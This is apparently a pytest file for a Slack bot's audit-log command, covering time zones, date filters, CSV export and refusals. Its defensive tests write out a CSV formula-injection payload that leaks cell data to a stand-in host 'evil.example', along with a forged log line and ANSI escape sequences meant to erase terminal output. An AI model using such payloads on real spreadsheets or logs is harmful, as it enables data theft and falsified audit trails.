"""The audit log: every request to the bot, written by the service and read by ``oversight audit``.

The command line is the real console script in a subprocess, reading the real store file; its
refusals are checked in this process (``runner``).
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.access import AccessPolicy
from bot.service import CommandService
from oversight.audit import COLUMNS, AuditEntry, entries, record
from oversight.clock import LONDON
from oversight.settings import load_settings
from oversight.slack.plumbing import make_client
from oversight.store import Store
from tests.support.cli import invoke
from tests.support.data import TEST_NOW
from tests.support.processes import CliRun, oversight_command


def entry(at: datetime, text: str = "da", outcome: str = "answered", **fields: str) -> AuditEntry:
    values = {
        "user_id": "UALLOWED",
        "channel_id": "CPRIVATE",
        "command": "/backlog",
        "text": text,
        "outcome": outcome,
        "detail": None,
        **fields,
    }
    return AuditEntry(at=at, **values)


def utc(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=UTC)


# --- the log in the store -----------------------------------------------------------------


def test_an_entry_reads_back_as_written_in_london_time(store: Store):
    at = datetime(2020, 7, 1, 9, 30, 15, tzinfo=LONDON)
    written = entry(at, detail="on the allow-list")
    record(store, written)
    [read] = entries(store)
    assert read == written
    assert read.at.tzinfo is not None and read.at.utcoffset().total_seconds() == 3600
    # Stored in UTC, so text order is time order across the clock changes.
    [(stored,)] = store.conn.execute("SELECT at FROM audit_log")
    assert stored == "2020-07-01T08:30:15+00:00"


def test_entries_come_oldest_first(store: Store):
    for hour in (9, 10, 11):
        record(store, entry(datetime(2020, 7, 1, hour, tzinfo=LONDON), text=str(hour)))
    assert [e.text for e in entries(store)] == ["9", "10", "11"]


def test_an_entry_with_nothing_known_but_the_outcome(store: Store):
    at = datetime(2020, 7, 1, 9, tzinfo=LONDON)
    record(store, AuditEntry(at, None, None, None, None, "error", None))
    assert entries(store) == [AuditEntry(at, None, None, None, None, "error", None)]


# Either side of midnight, London time, on days in GMT, BST and both clock changes.
AROUND_MIDNIGHT = [
    utc(2020, 3, 28, 23, 59, 59),  # Sat 28 Mar 23:59:59 GMT
    utc(2020, 3, 29, 0, 0, 0),  # Sun 29 Mar 00:00 GMT (clocks go forward at 01:00)
    utc(2020, 6, 30, 22, 59, 59),  # Tue 30 Jun 23:59:59 BST
    utc(2020, 6, 30, 23, 0, 0),  # Wed 1 Jul 00:00 BST
    utc(2020, 10, 24, 22, 59, 59),  # Sat 24 Oct 23:59:59 BST
    utc(2020, 10, 24, 23, 0, 0),  # Sun 25 Oct 00:00 BST (clocks go back at 02:00)
    utc(2020, 10, 25, 0, 30, 0),  # Sun 25 Oct 01:30 BST
    utc(2020, 10, 25, 1, 30, 0),  # Sun 25 Oct 01:30 GMT, an hour later
]
SINCE = {
    "2020-03-28": 0,
    "2020-03-29": 1,
    "30/06/2020": 2,
    "2020-07-01": 3,
    "2020-10-24": 4,
    "25/10/2020": 5,
    "2020-10-26": 8,
}


@pytest.fixture
def around_midnight(store: Store) -> Store:
    for i, at in enumerate(AROUND_MIDNIGHT):
        record(store, entry(at.astimezone(LONDON), text=f"request {i}"))
    return store


@pytest.mark.parametrize(("since", "first"), SINCE.items())
def test_since_is_from_the_start_of_the_day_in_london(
    around_midnight: Store, since: str, first: int
):
    from oversight.values import parse_date

    texts = [e.text for e in entries(around_midnight, parse_date(since))]
    assert texts == [f"request {i}" for i in range(first, len(AROUND_MIDNIGHT))]


# --- oversight audit -------------------------------------------------------------------------


def test_the_log_is_listed_one_request_a_line(cli: CliRun, store: Store):
    record(store, entry(utc(2020, 6, 30, 23, 30)))  # 00:30 on 1 July in London
    record(
        store,
        entry(
            utc(2020, 7, 1, 8, 0, 5),
            text="",
            outcome="refused",
            user_id="UOUTSIDER",
            detail="You are not on the oversight allow-list.",
        ),
    )
    record(store, entry(utc(2020, 1, 15, 9), text="burglary", outcome="usage", command="/backlog"))
    result = cli("audit")
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    assert result.stdout.splitlines() == [
        "2020-07-01 00:30:00  UALLOWED  CPRIVATE  /backlog da  -> answered",
        "2020-07-01 09:00:05  UOUTSIDER  CPRIVATE  /backlog  -> refused "
        "(You are not on the oversight allow-list.)",
        "2020-01-15 09:00:00  UALLOWED  CPRIVATE  /backlog burglary  -> usage",
    ]


@pytest.mark.parametrize(("since", "first"), SINCE.items())
def test_since_lists_from_that_day_inclusive(
    cli: CliRun, around_midnight: Store, since: str, first: int
):
    result = cli("audit", "--since", since)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    if first == len(AROUND_MIDNIGHT):
        day = date(2020, 10, 26)
        assert lines == [f"No requests recorded since {day}."]
        return
    assert [line.split("/backlog ")[1].split("  ->")[0] for line in lines] == [
        f"request {i}" for i in range(first, len(AROUND_MIDNIGHT))
    ]
    expected_first = AROUND_MIDNIGHT[first].astimezone(LONDON)
    assert lines[0].startswith(f"{expected_first:%Y-%m-%d %H:%M:%S}  ")


def test_since_in_csv_too(cli: CliRun, around_midnight: Store):
    result = cli("audit", "--since", "2020-07-01", "--csv")
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == list(COLUMNS)
    assert [r[4] for r in rows[1:]] == [f"request {i}" for i in range(3, len(AROUND_MIDNIGHT))]
    # The time with its offset: the two 01:30s of 25 October are told apart.
    assert [r[0] for r in rows[-2:]] == ["2020-10-25T01:30:00+01:00", "2020-10-25T01:30:00+00:00"]


def test_an_empty_log_says_so(cli: CliRun, store: Store):
    result = cli("audit")
    assert (result.returncode, result.stdout, result.stderr) == (0, "No requests recorded.\n", "")
    result = cli("audit", "--since", "1/7/2020")
    assert result.stdout == "No requests recorded since 2020-07-01.\n"


def test_an_empty_log_as_csv_is_the_header_alone(cli: CliRun, store: Store, tmp_path: Path):
    result = cli("audit", "--csv")
    assert result.returncode == 0
    assert result.stdout == ",".join(COLUMNS) + "\n"
    assert cli_bytes(tmp_path, "audit", "--csv").stdout == (",".join(COLUMNS) + "\r\n").encode()


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cli_bytes(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    """As the ``cli`` fixture, but the output's bytes as written: a lone "\r" kept as it is."""
    env = {**os.environ, "OVERSIGHT_DB": str(tmp_path / "oversight.db"), "OVERSIGHT_NOW": TEST_NOW}
    return subprocess.run(
        [*oversight_command(), *args],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )


def test_csv_has_a_header_and_writes_formula_looking_text_as_text(store: Store, tmp_path: Path):
    at = utc(2020, 7, 1, 8)
    for text in FORMULAS:
        record(store, entry(at, text=text))
    record(store, entry(at, user_id="@UEVIL", command="=cmd", outcome="usage", detail="-detail"))
    plain = 'da, "quoted", and\na second line'
    record(store, entry(at, text=plain, channel_id=None, detail=None))

    result = cli_bytes(tmp_path, "audit", "--csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout.decode("utf-8"), newline="")))
    assert rows[0] == ["at", "user_id", "channel_id", "command", "text", "outcome", "detail"]
    body = rows[1:]
    assert len(body) == len(FORMULAS) + 2
    assert all(r[0] == "2020-07-01T09:00:00+01:00" for r in body)
    assert [r[4] for r in body[: len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert body[-2][1] == "'@UEVIL"
    assert body[-2][3] == "'=cmd"
    assert body[-2][6] == "'-detail"
    # Ordinary text, with commas, quotes and a line break, comes back exactly.
    assert body[-1][4] == plain
    assert body[-1][2] == "" and body[-1][6] == ""
    # No cell that a spreadsheet would read as a formula.
    for row in body:
        for cell in row[1:]:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_typed_line_breaks_cannot_forge_another_line(cli: CliRun, store: Store):
    forged = "da\n2020-07-01 09:00:00  UBOSS  CPRIVATE  /backlog  -> answered"
    record(store, entry(utc(2020, 7, 1, 8), text=forged, outcome="usage"))
    record(store, entry(utc(2020, 7, 1, 8), text="\x1b[2K\x1b[1Aerased", outcome="usage"))
    result = cli("audit")
    lines = result.stdout.splitlines()
    assert len(lines) == 2
    assert "UBOSS" in lines[0] and lines[0].endswith("-> usage")
    assert "\\n2020-07-01" in lines[0]
    assert "\x1b" not in result.stdout
    assert "\\x1b[2K" in lines[1]


@pytest.mark.parametrize("since", ["yesterday", "2020-13-01", "31/02/2020", "2020-07-01T09:00", ""])
def test_a_bad_since_date_is_refused_in_one_sentence(runner: CliRunner, store: Store, since: str):
    record(store, entry(utc(2020, 7, 1, 8)))
    result = invoke(runner, "audit", "--since", since)
    assert result.exit_code == 2
    assert result.stdout == ""
    [line] = result.stderr.splitlines()
    assert line.startswith("--since: ")
    assert line.endswith("use YYYY-MM-DD or DD/MM/YYYY.")
    assert "Traceback" not in result.stderr


def test_the_audit_of_a_missing_database_is_refused_in_one_sentence(
    runner: CliRunner, tmp_path: Path
):
    result = invoke(runner, "audit")
    assert result.exit_code == 2
    [line] = result.stderr.splitlines()
    assert line.startswith("There is no database at ")
    assert not (tmp_path / "oversight.db").exists()


# --- from the bot to the log --------------------------------------------------------------------


def test_the_bots_requests_are_listed_by_the_command_line(
    cli: CliRun, store: Store, tmp_path: Path
):
    settings = load_settings(
        {
            "OVERSIGHT_DB": str(tmp_path / "oversight.db"),
            "OVERSIGHT_NOW": "2020-10-25T01:30+00:00",
            # Never called: with an empty allow-list the bot refuses without asking Slack.
            "SLACK_API_URL": "http://127.0.0.1:9/api/",
            "SLACK_BOT_TOKEN": "xoxb-1234567890-abc",
        },
        None,
    )
    access = AccessPolicy(make_client(settings), frozenset(), frozenset(), "the team")
    service = CommandService(settings=settings, store=store, access=access)
    service.handle("UONE", "CPRIVATE", "/ons-status", "=HYPERLINK(1)")
    result = cli("audit", "--since", "2020-10-25")
    assert result.stdout.splitlines() == [
        "2020-10-25 01:30:00  UONE  CPRIVATE  /ons-status =HYPERLINK(1)  -> refused "
        "(No one may see oversight figures yet: the allow-list is empty. Ask the team if you "
        "need access.)"
    ]
    [row] = list(csv.reader(io.StringIO(cli("audit", "--csv").stdout)))[1:]
    assert row == [
        "2020-10-25T01:30:00+00:00",
        "UONE",
        "CPRIVATE",
        "/ons-status",
        "'=HYPERLINK(1)",
        "refused",
        "No one may see oversight figures yet: the allow-list is empty. Ask the team if you "
        "need access.",
    ]
